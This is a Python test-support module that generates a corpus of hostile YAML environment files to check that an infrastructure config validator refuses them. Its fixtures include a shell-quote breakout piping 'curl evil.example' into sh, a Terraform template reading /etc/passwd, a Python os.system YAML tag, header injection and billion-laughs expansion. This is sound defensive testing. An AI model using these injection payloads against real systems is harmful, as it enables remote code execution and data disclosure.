"""A corpus of hostile environment files, generated from a declared table.

Each :class:`HostileCase` has a short name, the mutation it applies to one of the shipped files (as text or
as a document), and the field a correct validator refuses it at (``""``: the whole file). Every case must
be refused cleanly: one ``FILE: field: message`` line per problem, exit status 1, no traceback, quickly and
in bounded memory. ``heavy`` cases (size, expansion, nesting) also go through the real CLI in a subprocess.

``python -m tests.support.hostile_environments DIR`` writes the corpus to ``DIR`` (one folder per case).
"""

from __future__ import annotations

import os
import sys
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import yaml

from tests.support.documents import DELETE, with_setting
from tests.support.paths import REPO

SHIPPED = {p.stem: p.read_text(encoding="utf-8") for p in sorted((REPO / "environments").glob("*.yaml"))}
"""Each shipped environment file's text, by environment name."""

"""An edit's value that removes the setting."""


def document(environment: str) -> dict[str, Any]:
    """A shipped environment file as plain data."""
    return yaml.safe_load(SHIPPED[environment])


def edited(environment: str, *edits: tuple[str, Any]) -> dict[str, Any]:
    """A shipped document with ``(dotted path, value)`` edits applied (``DELETE`` removes)."""
    doc = document(environment)
    for dotted, value in edits:
        doc = with_setting(doc, dotted, value)
    return doc


def dump(doc: Any) -> bytes:
    return yaml.safe_dump(doc, sort_keys=False, allow_unicode=True, width=10_000).encode("utf-8")


@dataclass(frozen=True)
class HostileCase:
    """One hostile file: written as ``<stem>.yaml`` (or, with ``directory``, a folder of that name)."""

    name: str
    mutation: str
    content: Callable[[], bytes]
    field: str
    """The field the refusal names (the path between the first two ``: ``); "" is the whole file."""
    stem: str = "dev"
    heavy: bool = False
    """Also run through ``python -m rudder_ha validate`` in a subprocess (size, expansion, nesting)."""
    special: str = ""
    """Instead of a file: ``directory``, ``fifo`` (a named pipe nobody writes to) or ``device`` (a symlink
    to /dev/zero, which never ends)."""

    def write(self, folder: Path) -> Path:
        """Writes the case into ``folder`` and returns the path to validate."""
        folder.mkdir(parents=True, exist_ok=True)
        path = folder / f"{self.stem}.yaml"
        if self.special == "directory":
            path.mkdir()
        elif self.special == "fifo":
            os.mkfifo(path)
        elif self.special == "device":
            path.symlink_to("/dev/zero")
        else:
            path.write_bytes(self.content())
        return path


def text(environment: str, old: str = "", new: str = "", *, append: str = "", prepend: str = "") -> bytes:
    """A shipped file's text with ``old`` replaced by ``new`` (once; ``old`` must be there)."""
    body = SHIPPED[environment]
    if old:
        assert old in body, f"{old!r} is not in {environment}.yaml"
        body = body.replace(old, new, 1)
    return (prepend + body + append).encode("utf-8")


def raw(environment: str, old: bytes, new: bytes) -> bytes:
    body = SHIPPED[environment].encode("utf-8")
    assert old in body
    return body.replace(old, new, 1)


def _case(name: str, mutation: str, content: Callable[[], bytes], field: str, **kw: Any) -> HostileCase:
    return HostileCase(name, mutation, content, field, **kw)


def _doc_case(name: str, mutation: str, environment: str, field: str, *edits: tuple[str, Any]) -> HostileCase:
    return HostileCase(name, mutation, lambda: dump(edited(environment, *edits)), field, stem=environment)


ACCOUNT = "333333333333"
OTHER_ACCOUNT = "444444444444"
KEY_ID = "1234abcd-12ab-34cd-56ef-1234567890ab"
KEY = f"arn:aws:kms:eu-west-1:{ACCOUNT}:key/{KEY_ID}"
STAGING_SECRET = "arn:aws:secretsmanager:eu-west-1:222222222222:secret:rudder-ha/staging/workspace-token-AbCdEf"
CERT = "arn:aws:acm:eu-west-1:333333333333:certificate/66666666-7777-8888-9999-000000000000"
WAF = f"arn:aws:wafv2:eu-west-1:{ACCOUNT}:regional/webacl/rudder/a1b2c3d4-5678-90ab-cdef-111111111111"
EKS_ENV = "prod-eks"
ZONE = "Z0123456789ABCDEFGHIJ"

BILLION_LAUGHS = (
    'a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]\n'
    + "".join(f"{chr(c)}: &{chr(c)} [{','.join(['*' + chr(c - 1)] * 9)}]\n" for c in range(ord("b"), ord("j")))
    + "environment: *i\n"
)


def _big_comment(size: int) -> bytes:
    line = b"# " + b"x" * 98 + b"\n"
    return SHIPPED["dev"].encode() + line * (size // len(line) + 1)


CASES: tuple[HostileCase, ...] = (
    # --- bytes and encoding -----------------------------------------------------------------------------
    _case("utf8-bom", "a UTF-8 byte-order mark first", lambda: b"\xef\xbb\xbf" + text("dev"), ""),
    _case("utf16-le", "saved as UTF-16 LE with a BOM", lambda: SHIPPED["dev"].encode("utf-16"), ""),
    _case("utf16-be", "saved as UTF-16 BE with a BOM", lambda: b"\xfe\xff" + SHIPPED["dev"].encode("utf-16-be"), ""),
    _case("utf16-no-bom", "saved as UTF-16 LE without a BOM", lambda: SHIPPED["dev"].encode("utf-16-le"), ""),
    _case("utf32", "saved as UTF-32", lambda: SHIPPED["dev"].encode("utf-32"), ""),
    _case("latin1-comment", "a Latin-1 byte in a comment", lambda: raw("dev", b"cheapest", b"cheap\xe9st"), ""),
    _case("latin1-value", "a Latin-1 byte in a value", lambda: raw("dev", b"data-platform", b"donn\xe9es"), ""),
    _case("overlong-utf8", "an overlong UTF-8 sequence", lambda: raw("dev", b"owner", b"own\xc0\xafer"), ""),
    _case("utf8-surrogate", "a UTF-8-encoded surrogate", lambda: raw("dev", b"owner", b"own\xed\xa0\x80er"), ""),
    _case("nul-byte", "a NUL byte in a value", lambda: raw("dev", b"data-platform", b"data\x00platform"), ""),
    _case("bel-char", "a BEL control character", lambda: raw("dev", b"data-platform", b"data\x07platform"), ""),
    _case("ansi-escape", "an ANSI escape in a comment", lambda: raw("dev", b"# dev:", b"# \x1b[2Jdev:"), ""),
    _case("del-char", "a DEL character", lambda: raw("dev", b"data-platform", b"data\x7fplatform"), ""),
    _case("nel-char", "a NEL (U+0085) line break", lambda: text("dev", "data-platform", "data\u0085platform"), ""),
    _case("zero-width", "a zero-width space in a value", lambda: text("dev", "eu-west-1a", "eu-west-1\u200ba"), ""),
    _case("bidi-override", "a right-to-left override", lambda: text("dev", "# dev:", "# \u202edev:"), ""),
    _case("line-separator", "a U+2028 line separator", lambda: text("dev", "owner:", "owner\u2028:"), ""),
    _case("inner-bom", "a BOM in the middle", lambda: text("dev", "tier: dev", "tier: \ufeffdev"), ""),
    _case("oversized", "300 KiB (comments)", lambda: _big_comment(300 * 1024), "", heavy=True),
    _case("huge-50mb", "a 50 MB file", lambda: _big_comment(50 * 1024 * 1024), "", heavy=True),
    _case("directory", "a folder named dev.yaml", lambda: b"", "", special="directory"),
    _case("fifo", "a named pipe nobody writes to", lambda: b"", "", special="fifo", heavy=True),
    _case("dev-zero", "a symlink to /dev/zero", lambda: b"", "", special="device", heavy=True),
    # --- YAML documents ---------------------------------------------------------------------------------
    _case("empty", "an empty file", lambda: b"", ""),
    _case("only-comments", "comments only", lambda: b"# nothing\n# here\n", ""),
    _case("scalar-document", "a lone scalar", lambda: b"dev\n", ""),
    _case("list-document", "a list at the top", lambda: b"- environment: dev\n- tier: dev\n", ""),
    _case("two-documents", "a second document", lambda: text("dev", append="---\nenvironment: prod\n"), ""),
    _case("unclosed-flow", "an unclosed [", lambda: text("dev", "[eu-west-1a, eu-west-1b]", "[eu-west-1a"), ""),
    _case("tab-indent", "a tab as indentation", lambda: text("dev", "  bucket:", "\tbucket:"), ""),
    _case(
        "billion-laughs", "nested aliases expanding to 9^9 strings", lambda: BILLION_LAUGHS.encode(), "a", heavy=True
    ),
    _case("alias-reuse", "an anchor and alias", lambda: text("dev", "tier: dev", "tier: &t dev\nx: *t"), "tier"),
    _case(
        "merge-key",
        "a << merge of an anchored mapping",
        lambda: text(
            "dev", "drain:\n  deadline_seconds: 900", "drain: &d\n  deadline_seconds: 900\nalerting:\n  <<: *d"
        ),
        "drain",
    ),
    _case("anchor-only", "an unused anchor", lambda: text("dev", "tier: dev", "tier: &t dev"), "tier"),
    _case("deep-flow", "100 000 nested [", lambda: text("dev", append="x: " + "[" * 100_000 + "\n"), "x", heavy=True),
    _case(
        "deep-mapping",
        "40 nested mappings",
        lambda: text("dev", append="x: " + "{a: " * 40 + "1" + "}" * 40 + "\n"),
        "x",
    ),
    _case("long-list", "a 600-item list", lambda: text("dev", append="x: [" + ",".join(["1"] * 600) + "]\n"), "x"),
    _case(
        "many-nodes",
        "25 lists of 490 items",
        lambda: text("dev", append="".join(f"x{i}: [" + ",".join(["1"] * 490) + "]\n" for i in range(25))),
        "x20",
        heavy=True,
    ),
    _case(
        "huge-int", "a 5000-digit integer", lambda: text("dev", "900", "9" * 5000), "drain.deadline_seconds", heavy=True
    ),
    # --- tags ---------------------------------------------------------------------------------------------
    _case(
        "binary-tag", "!!binary", lambda: text("dev", "owner: data-platform", "owner: !!binary ZGF0YQ=="), "tags.owner"
    ),
    _case("set-tag", "!!set", lambda: text("dev", "tags:\n", "tags: !!set\n"), "tags"),
    _case("timestamp-tag", "!!timestamp", lambda: text("dev", "tier: dev", "tier: !!timestamp 2024-01-01"), "tier"),
    _case("omap-tag", "!!omap", lambda: text("dev", "drain:\n", "drain: !!omap\n"), "drain"),
    _case("pairs-tag", "!!pairs", lambda: text("dev", "tags:\n", "tags: !!pairs\n"), "tags"),
    _case(
        "python-tag",
        "!!python/object/apply:os.system",
        lambda: text("dev", "tier: dev", "tier: !!python/object/apply:os.system ['true']"),
        "tier",
    ),
    _case("local-tag", "a local !tag", lambda: text("dev", "tier: dev", "tier: !env DEV_TIER"), "tier"),
    _case("float-tag", "!!float on a word", lambda: text("dev", "tier: dev", "tier: !!float dev"), "tier"),
    _case("int-tag", "!!int on a word", lambda: text("dev", "tier: dev", "tier: !!int dev"), "tier"),
    # --- keys ---------------------------------------------------------------------------------------------
    _case("int-key", "an integer key", lambda: text("dev", append="1: one\n"), ""),
    _case("null-key", "a null key", lambda: text("dev", append="~: nothing\n"), ""),
    _case("bool-key", "a boolean key", lambda: text("dev", "owner: data-platform", "true: data-platform"), "tags"),
    _case("sequence-key", "a sequence as a key", lambda: text("dev", append="? [a, b]\n: c\n"), ""),
    _case("mapping-key", "a mapping as a key", lambda: text("dev", append="? {a: b}\n: c\n"), ""),
    _case("float-key", "a float key", lambda: text("dev", "owner: data-platform", "1.5: data-platform"), "tags"),
    _case("duplicate-top", "a key twice", lambda: text("dev", append="tier: prod\n"), "tier"),
    _case(
        "duplicate-nested",
        "a nested key twice",
        lambda: text("dev", "  nat_gateways: single", "  nat_gateways: single\n  nat_gateways: one_per_az"),
        "network.nat_gateways",
    ),
    _case("unknown-key", "an unknown top-level key", lambda: text("dev", append="replicas: 3\n"), ""),
    # --- scalars the YAML 1.1 resolver would have read as something else ----------------------------------
    _case("date-tier", "a date where a name goes", lambda: text("dev", "tier: dev", "tier: 2024-01-01"), "tier"),
    _case(
        "date-environment",
        "a date as the environment",
        lambda: text("dev", "environment: dev", "environment: 2024-01-01"),
        "environment",
    ),
    _case(
        "yes-boolean",
        "yes for true",
        lambda: text("dev", "http_only: true", "http_only: yes"),
        "load_balancer.http_only",
    ),
    _case(
        "on-boolean", "on for true", lambda: text("dev", "http_only: true", "http_only: on"), "load_balancer.http_only"
    ),
    _case(
        "sexagesimal",
        "15:00 for 900",
        lambda: text("dev", "deadline_seconds: 900", "deadline_seconds: 15:00"),
        "drain.deadline_seconds",
    ),
    _doc_case(
        "inf-threshold",
        ".inf threshold",
        "prod",
        "alerting.thresholds.alb_5xx_percent",
        ("alerting.thresholds.alb_5xx_percent", float("inf")),
    ),
    _case(
        "nan-threshold",
        ".nan threshold",
        lambda: text("prod", "alb_5xx_percent: 5", "alb_5xx_percent: .nan"),
        "alerting.thresholds.alb_5xx_percent",
        stem="prod",
    ),
    _case(
        "overflow-float",
        "1e999",
        lambda: text("prod", "alb_5xx_percent: 5", "alb_5xx_percent: 1e999"),
        "alerting.thresholds.alb_5xx_percent",
        stem="prod",
    ),
    # --- control characters in values ---------------------------------------------------------------------
    _case(
        "block-newline",
        "a | block (trailing newline) as the environment",
        lambda: text("dev", "environment: dev", "environment: |\n  dev"),
        "environment",
    ),
    _doc_case("quoted-newline", "region with a trailing newline", "dev", "region", ("region", "eu-west-1\n")),
    _doc_case(
        "arn-newline",
        "a certificate ARN with a trailing newline",
        "prod",
        "load_balancer.certificate_arn",
        ("load_balancer.certificate_arn", CERT + "\n"),
    ),
    _doc_case(
        "image-newline",
        "an image with a trailing newline",
        "dev",
        "rudder.backend_image",
        ("rudder.backend_image", "rudderlabs/rudder-server:1.62.1\n"),
    ),
    _doc_case(
        "url-newline",
        "a control-plane URL with a newline inside",
        "dev",
        "rudder.control_plane_url",
        ("rudder.control_plane_url", "https://api.rudderstack.com\nX-Evil: 1"),
    ),
    _doc_case("tab-value", "a tab in a tag", "dev", "tags.owner", ("tags.owner", "data\tplatform")),
    _doc_case("cr-value", "a carriage return in a tag", "dev", "tags.owner", ("tags.owner", "data\rplatform")),
    _doc_case("nul-escape", "a \\0 escape in a tag", "dev", "tags.owner", ("tags.owner", "data\x00platform")),
    _doc_case("esc-escape", "an ANSI escape (\\e) in a tag", "dev", "tags.owner", ("tags.owner", "\x1b[31mred")),
    _doc_case("nbsp-value", "a non-breaking space in a tag", "dev", "tags.owner", ("tags.owner", "data\u00a0platform")),
    _doc_case(
        "long-value",
        "a 3000-character value",
        "dev",
        "rudder.extra_env.RSERVER_X",
        ("rudder.extra_env", {"RSERVER_X": "x" * 3000}),
    ),
    _doc_case("long-key", "a 200-character tag key", "dev", "tags." + "k" * 200, ("tags", {"k" * 200: "v"})),
    _doc_case("newline-key", "a tag key with a newline", "dev", "tags.a\nb", ("tags", {"a\nb": "v"})),
    # --- Terraform templates ------------------------------------------------------------------------------
    _doc_case("template-tag", "${...} in a tag value", "dev", "tags.owner", ("tags.owner", '${file("/etc/passwd")}')),
    _doc_case(
        "directive-env",
        "%{...} in extra_env",
        "dev",
        "rudder.extra_env.RSERVER_X",
        ("rudder.extra_env", {"RSERVER_X": "%{ for x in y }x%{ endfor }"}),
    ),
    _doc_case(
        "template-url",
        "${...} in the control-plane URL",
        "dev",
        "rudder.control_plane_url",
        ("rudder.control_plane_url", "https://api.rudderstack.com/${var.x}"),
    ),
    _doc_case("escaped-template", "$${ in a tag", "dev", "tags.owner", ("tags.owner", "$${literal}")),
    _doc_case("template-key", "${ in a tag key", "dev", "tags.${x}", ("tags", {"${x}": "v"})),
    _doc_case(
        "template-ssm",
        "${ in the token parameter",
        "dev",
        "rudder.workspace_token.ssm_parameter",
        ("rudder.workspace_token.ssm_parameter", "/rudder/${x}"),
    ),
    # --- integers -----------------------------------------------------------------------------------------
    _doc_case(
        "float-deadline", "deadline_seconds: 900.0", "dev", "drain.deadline_seconds", ("drain.deadline_seconds", 900.0)
    ),
    _doc_case(
        "bool-deadline", "deadline_seconds: true", "dev", "drain.deadline_seconds", ("drain.deadline_seconds", True)
    ),
    _doc_case(
        "string-deadline", 'deadline_seconds: "900"', "dev", "drain.deadline_seconds", ("drain.deadline_seconds", "900")
    ),
    _doc_case(
        "fraction-interval",
        "interval_seconds: 5.5",
        "prod",
        "health_check.interval_seconds",
        ("health_check.interval_seconds", 5.5),
    ),
    _doc_case(
        "float-replicas",
        "backend_replica_count: 2.0",
        EKS_ENV,
        "eks.backend_replica_count",
        ("eks.backend_replica_count", 2.0),
    ),
    _doc_case(
        "float-version",
        "kubernetes_version: 1.31 unquoted",
        EKS_ENV,
        "eks.kubernetes_version",
        ("eks.kubernetes_version", 1.31),
    ),
    _doc_case(
        "null-min",
        "nodes_per_az.min: null",
        EKS_ENV,
        "eks.nodes_per_az.min",
        ("eks.nodes_per_az", {"min": None, "max": 3, "desired": 1}),
    ),
    _doc_case(
        "cpu-limit-below-request",
        "eks.resources.backend: cpu_limit 100m under the default request 1",
        EKS_ENV,
        "eks.resources.backend.cpu_limit",
        ("eks.resources", {"backend": {"cpu_limit": "100m"}}),
    ),
    _doc_case(
        "exponent-quantity",
        "eks.resources.postgres.memory_limit: 1e9 (a quantity Kubernetes reads, this project refuses)",
        EKS_ENV,
        "eks.resources.postgres.memory_limit",
        ("eks.resources", {"postgres": {"memory_limit": "1e9"}}),
    ),
    _doc_case(
        "negative-heartbeat",
        "heartbeat_timeout_seconds: -1",
        "prod",
        "autoscaling.lifecycle_hook.heartbeat_timeout_seconds",
        ("autoscaling.lifecycle_hook.heartbeat_timeout_seconds", -1),
    ),
    # --- ARNs ---------------------------------------------------------------------------------------------
    _doc_case(
        "secret-star",
        "secret:*",
        "staging",
        "rudder.workspace_token.secrets_manager_arn",
        ("rudder.workspace_token.secrets_manager_arn", "arn:aws:secretsmanager:eu-west-1:222222222222:secret:*"),
    ),
    _doc_case(
        "secret-prefix-star",
        "secret:rudder-ha/*",
        "staging",
        "rudder.workspace_token.secrets_manager_arn",
        (
            "rudder.workspace_token.secrets_manager_arn",
            "arn:aws:secretsmanager:eu-west-1:222222222222:secret:rudder-ha/*",
        ),
    ),
    _doc_case(
        "secret-question",
        "secret:token-??????",
        "staging",
        "rudder.workspace_token.secrets_manager_arn",
        (
            "rudder.workspace_token.secrets_manager_arn",
            "arn:aws:secretsmanager:eu-west-1:222222222222:secret:token-??????",
        ),
    ),
    _doc_case(
        "secret-region",
        "the token secret in us-east-1",
        "staging",
        "rudder.workspace_token.secrets_manager_arn",
        ("rudder.workspace_token.secrets_manager_arn", STAGING_SECRET.replace("eu-west-1", "us-east-1")),
    ),
    _doc_case(
        "secret-account",
        "the token secret in another account",
        "staging",
        "rudder.workspace_token.secrets_manager_arn",
        ("rudder.workspace_token.secrets_manager_arn", STAGING_SECRET.replace("222222222222", OTHER_ACCOUNT)),
    ),
    _doc_case(
        "secret-partition",
        "the token secret in aws-cn",
        "staging",
        "rudder.workspace_token.secrets_manager_arn",
        ("rudder.workspace_token.secrets_manager_arn", STAGING_SECRET.replace("arn:aws:", "arn:aws-cn:")),
    ),
    _doc_case(
        "kms-key-star",
        "key/*",
        "prod",
        "jobsdb.kms_key_arn",
        ("jobsdb", {"kms_key_arn": f"arn:aws:kms:eu-west-1:{ACCOUNT}:key/*"}),
    ),
    _doc_case(
        "kms-alias-star",
        "alias/*",
        "prod",
        "instance.ebs_kms_key_arn",
        ("instance.ebs_kms_key_arn", f"arn:aws:kms:eu-west-1:{ACCOUNT}:alias/*"),
    ),
    _doc_case(
        "kms-region",
        "an EBS key in us-east-1",
        "prod",
        "instance.ebs_kms_key_arn",
        ("instance.ebs_kms_key_arn", KEY.replace("eu-west-1", "us-east-1")),
    ),
    _doc_case(
        "kms-account",
        "a jobsdb key in another account",
        "prod",
        "jobsdb.kms_key_arn",
        ("jobsdb", {"kms_key_arn": KEY.replace(ACCOUNT, OTHER_ACCOUNT)}),
    ),
    _doc_case(
        "token-kms-account",
        "the token's key in another account",
        "prod",
        "rudder.workspace_token.kms_key_arn",
        ("rudder.workspace_token.kms_key_arn", KEY.replace(ACCOUNT, OTHER_ACCOUNT)),
    ),
    _doc_case(
        "alert-kms-region",
        "the alert secrets' key in another region",
        "prod",
        "alerting.secrets_kms_key_arn",
        ("alerting.secrets_kms_key_arn", KEY.replace("eu-west-1", "eu-central-1")),
    ),
    _doc_case(
        "alert-secret-region",
        "a Slack webhook secret in another region",
        "staging",
        "alerting.slack_webhook_url",
        ("alerting.slack_webhook_url", "arn:aws:secretsmanager:us-west-2:222222222222:secret:slack-AbCdEf"),
    ),
    _doc_case(
        "alert-secret-star",
        "a PagerDuty secret ARN with *",
        "staging",
        "alerting.pagerduty_routing_key",
        ("alerting.pagerduty_routing_key", "arn:aws:secretsmanager:eu-west-1:222222222222:secret:*"),
    ),
    _doc_case(
        "admin-role-star",
        "admin principal role/*",
        EKS_ENV,
        "eks.admin_principal_arns[0]",
        ("eks.admin_principal_arns", [f"arn:aws:iam::{ACCOUNT}:role/*"]),
    ),
    _doc_case(
        "admin-user-question",
        "admin principal user/?dmin",
        EKS_ENV,
        "eks.admin_principal_arns[0]",
        ("eks.admin_principal_arns", [f"arn:aws:iam::{ACCOUNT}:user/?dmin"]),
    ),
    _doc_case(
        "admin-partition",
        "admin principal in aws-cn",
        EKS_ENV,
        "eks.admin_principal_arns[0]",
        ("eks.admin_principal_arns", [f"arn:aws-cn:iam::{ACCOUNT}:role/admin"]),
    ),
    _doc_case(
        "admin-root",
        "admin principal :root",
        EKS_ENV,
        "eks.admin_principal_arns[0]",
        ("eks.admin_principal_arns", [f"arn:aws:iam::{ACCOUNT}:root"]),
    ),
    _doc_case(
        "cert-account",
        "a certificate of another account",
        "prod",
        "load_balancer.certificate_arn",
        ("load_balancer.certificate_arn", CERT.replace(ACCOUNT, OTHER_ACCOUNT)),
    ),
    _doc_case(
        "cert-partition",
        "a certificate in aws-us-gov",
        "prod",
        "load_balancer.certificate_arn",
        ("load_balancer.certificate_arn", CERT.replace("arn:aws:", "arn:aws-us-gov:")),
    ),
    _doc_case(
        "waf-star",
        "a web ACL ARN ending in *",
        "prod",
        "load_balancer.waf_web_acl_arn",
        ("load_balancer.waf_web_acl_arn", f"arn:aws:wafv2:eu-west-1:{ACCOUNT}:regional/webacl/*"),
    ),
    _doc_case(
        "waf-region",
        "a web ACL of another region",
        "prod",
        "load_balancer.waf_web_acl_arn",
        ("load_balancer.waf_web_acl_arn", WAF.replace("eu-west-1", "us-east-1")),
    ),
    # --- the Route 53 hosted zone -------------------------------------------------------------------------
    _doc_case(
        "zone-no-domain",
        "hosted_zone_id without domain_name",
        "prod",
        "load_balancer.hosted_zone_id",
        ("load_balancer.hosted_zone_id", ZONE),
        ("load_balancer.domain_name", DELETE),
    ),
    _doc_case(
        "zone-http-only",
        "hosted_zone_id on an HTTP-only dev ALB",
        "dev",
        "load_balancer.hosted_zone_id",
        ("load_balancer.hosted_zone_id", ZONE),
    ),
    _doc_case(
        "zone-eks",
        "hosted_zone_id with topology: eks (the controller makes the ALB)",
        EKS_ENV,
        "load_balancer.hosted_zone_id",
        ("load_balancer.hosted_zone_id", ZONE),
    ),
    _doc_case(
        "zone-path",
        "hosted_zone_id as /hostedzone/Z...",
        "prod",
        "load_balancer.hosted_zone_id",
        ("load_balancer.hosted_zone_id", f"/hostedzone/{ZONE}"),
    ),
    _doc_case(
        "zone-lowercase",
        "hosted_zone_id in lower case",
        "prod",
        "load_balancer.hosted_zone_id",
        ("load_balancer.hosted_zone_id", ZONE.lower()),
    ),
    _doc_case(
        "state-kms-region",
        "a state key in another region than the state",
        "prod",
        "state.kms_key_id",
        ("state.kms_key_id", KEY.replace("eu-west-1", "us-east-1")),
    ),
    _doc_case(
        "state-kms-quote",
        "a state key id breaking out of shell quotes",
        "prod",
        "state.kms_key_id",
        ("state.kms_key_id", "x'; curl evil.example | sh; '"),
    ),
    # --- state keys ---------------------------------------------------------------------------------------
    _doc_case(
        "state-other-env",
        "dev's state at prod's key",
        "dev",
        "state.key",
        ("state.key", "rudder-ha/prod/terraform.tfstate"),
    ),
    _doc_case(
        "state-other-eks",
        "dev's state at prod-eks's cluster key",
        "dev",
        "state.key",
        ("state.key", "rudder-ha/prod-eks/terraform-cluster.tfstate"),
    ),
    _doc_case(
        "state-dotdot", "a key with ..", "dev", "state.key", ("state.key", "rudder-ha/dev/../prod/terraform.tfstate")
    ),
    _doc_case(
        "state-leading-slash",
        "a key starting with /",
        "dev",
        "state.key",
        ("state.key", "/rudder-ha/dev/terraform.tfstate"),
    ),
    _doc_case(
        "state-suffix",
        "a key not ending in .tfstate",
        "dev",
        "state.key",
        ("state.key", "rudder-ha/dev/terraform.json"),
    ),
    _doc_case("state-star", "a key with *", "dev", "state.key", ("state.key", "rudder-ha/*/terraform.tfstate")),
    _doc_case(
        "state-newline",
        "a key with a trailing newline",
        "dev",
        "state.key",
        ("state.key", "rudder-ha/dev/terraform.tfstate\n"),
    ),
    _doc_case("state-pulumi", "a key under the Pulumi prefix", "dev", "state.key", ("state.key", "pulumi/dev.tfstate")),
    # --- tags ---------------------------------------------------------------------------------------------
    _doc_case("tag-aws-prefix", "tag aws:createdBy", "dev", "tags.aws:createdBy", ("tags.aws:createdBy", "me")),
    _doc_case("tag-aws-upper", "tag AWS:owner", "dev", "tags.AWS:owner", ("tags.AWS:owner", "me")),
    _doc_case(
        "tag-aws-mixed",
        "tag Aws:cloudformation:stack-name",
        "dev",
        "tags.Aws:cloudformation:stack-name",
        ("tags.Aws:cloudformation:stack-name", "x"),
    ),
    _doc_case("tag-project", "tag Project (the project's own)", "dev", "tags.Project", ("tags.Project", "x")),
    _doc_case("tag-too-many", "41 tags", "dev", "tags", ("tags", {f"t{i}": "v" for i in range(41)})),
    # --- settings the topology ignores -------------------------------------------------------------------
    _doc_case(
        "eks-instance", "instance with topology eks", EKS_ENV, "instance", ("instance", {"instance_type": "m6i.large"})
    ),
    _doc_case(
        "eks-warm-pool",
        "autoscaling.warm_pool with topology eks",
        EKS_ENV,
        "autoscaling.warm_pool",
        ("autoscaling.warm_pool", {"enabled": True}),
    ),
    _doc_case(
        "eks-degraded",
        "degraded_mode with topology eks",
        EKS_ENV,
        "degraded_mode",
        ("degraded_mode", {"crash_threshold": 3}),
    ),
    _doc_case(
        "eks-image-pipeline",
        "image_pipeline with topology eks",
        EKS_ENV,
        "image_pipeline",
        ("image_pipeline", {"enabled": True}),
    ),
    _doc_case(
        "eks-alb-log-retention",
        "load_balancer.access_logs_retention_days with topology eks (the controller's ALB keeps no access logs)",
        EKS_ENV,
        "load_balancer.access_logs_retention_days",
        ("load_balancer.access_logs_retention_days", 365),
    ),
    _doc_case(
        "eks-extra-env-secret",
        "a secret-looking rudder.extra_env with topology eks (the pods take extra_env, never a secret)",
        EKS_ENV,
        "rudder.extra_env.RSERVER_JOBS_DB_PASSWORD",
        ("rudder.extra_env", {"RSERVER_JOBS_DB_PASSWORD": "hunter2"}),
    ),
    _doc_case(
        "eks-http-only",
        "load_balancer.http_only with topology eks",
        EKS_ENV,
        "load_balancer.http_only",
        ("load_balancer.http_only", False),
    ),
    _doc_case(
        "eks-access-logs",
        "access_logs_retention_days with topology eks",
        EKS_ENV,
        "load_balancer.access_logs_retention_days",
        ("load_balancer.access_logs_retention_days", 30),
    ),
    _doc_case("eks-jobsdb", "jobsdb with topology eks", EKS_ENV, "jobsdb", ("jobsdb", {"mode": "rds"})),
    _doc_case(
        "eks-grace",
        "autoscaling.health_check_grace_period_seconds with topology eks",
        EKS_ENV,
        "autoscaling.health_check_grace_period_seconds",
        ("autoscaling.health_check_grace_period_seconds", 300),
    ),
    _doc_case(
        "single-eks-section",
        "an eks section with topology single_node",
        "prod",
        "eks",
        ("eks", {"backend_replica_count": 3}),
    ),
    # --- values the EKS synthesis cannot build -------------------------------------------------------------
    _doc_case(
        "eks-version-129",
        'kubernetes_version: "1.29"',
        EKS_ENV,
        "eks.kubernetes_version",
        ("eks.kubernetes_version", "1.29"),
    ),
    _doc_case(
        "eks-grace-60",
        "termination grace 60 s",
        EKS_ENV,
        "eks.termination_grace_period_seconds",
        ("eks.termination_grace_period_seconds", 60),
    ),
    _doc_case(
        "eks-grace-94",
        "termination grace 94 s",
        EKS_ENV,
        "eks.termination_grace_period_seconds",
        ("eks.termination_grace_period_seconds", 94),
    ),
    _doc_case(
        "eks-vpc-no-zones",
        "an existing VPC and no zones",
        EKS_ENV,
        "network",
        (
            "network",
            {
                "vpc_id": "vpc-0a1b2c3d4e5f60718",
                "public_subnet_ids": ["subnet-0aa1111111111111a", "subnet-0bb2222222222222b"],
                "private_subnet_ids": ["subnet-0cc3333333333333c", "subnet-0dd4444444444444d"],
            },
        ),
    ),
    _doc_case(
        "eks-vpc-zone-count",
        "an existing VPC, 3 zones for 2 subnets",
        EKS_ENV,
        "network.availability_zones",
        (
            "network",
            {
                "vpc_id": "vpc-0a1b2c3d4e5f60718",
                "availability_zones": ["eu-west-1a", "eu-west-1b", "eu-west-1c"],
                "public_subnet_ids": ["subnet-0aa1111111111111a", "subnet-0bb2222222222222b"],
                "private_subnet_ids": ["subnet-0cc3333333333333c", "subnet-0dd4444444444444d"],
            },
        ),
    ),
    _doc_case(
        "eks-no-account",
        "topology eks without allowed_account_ids",
        EKS_ENV,
        "allowed_account_ids",
        ("allowed_account_ids", DELETE),
    ),
    _doc_case(
        "eks-dev-no-cert",
        "a dev eks environment without a certificate",
        EKS_ENV,
        "load_balancer.certificate_arn",
        ("tier", "dev"),
        ("load_balancer", {}),
    ),
    _doc_case(
        "no-backend-image",
        "rudder.backend_image left out",
        "dev",
        "rudder.backend_image",
        ("rudder.backend_image", DELETE),
    ),
    _doc_case(
        "bad-ingress-cidr",
        "an ingress CIDR of 999.1.1.1/99",
        "prod",
        "load_balancer.ingress_cidrs[0]",
        ("load_balancer.ingress_cidrs", ["999.1.1.1/99"]),
    ),
    _doc_case(
        "host-bits-ingress",
        "an ingress CIDR with host bits",
        "prod",
        "load_balancer.ingress_cidrs[0]",
        ("load_balancer.ingress_cidrs", ["10.0.0.1/8"]),
    ),
    _doc_case(
        "bad-endpoint-cidr",
        "a public endpoint CIDR of 300.0.0.0/8",
        EKS_ENV,
        "eks.public_access_cidrs[0]",
        ("eks.endpoint_public_access", True),
        ("eks.public_access_cidrs", ["300.0.0.0/8"]),
    ),
    # --- rudder versions (rudder_ha/config/versions.py) -----------------------------------------------------
    _doc_case(
        "server-too-old",
        "rudder-server 1.61.9, below the supported v1.62.x",
        "prod",
        "rudder.backend_image",
        ("rudder.backend_image", "rudderlabs/rudder-server:1.61.9"),
    ),
    _doc_case(
        "server-too-new",
        "rudder-server 1.84.0, above the supported v1.83.x",
        "dev",
        "rudder.backend_image",
        ("rudder.backend_image", "rudderlabs/rudder-server:1.84.0"),
    ),
    _doc_case(
        "server-rc",
        "a rudder-server release candidate tag",
        "staging",
        "rudder.backend_image",
        ("rudder.backend_image", "rudderlabs/rudder-server:1.83.0-rc.1"),
    ),
    _doc_case(
        "server-digest-only",
        "a rudder-server digest without its release tag",
        "prod",
        "rudder.backend_image",
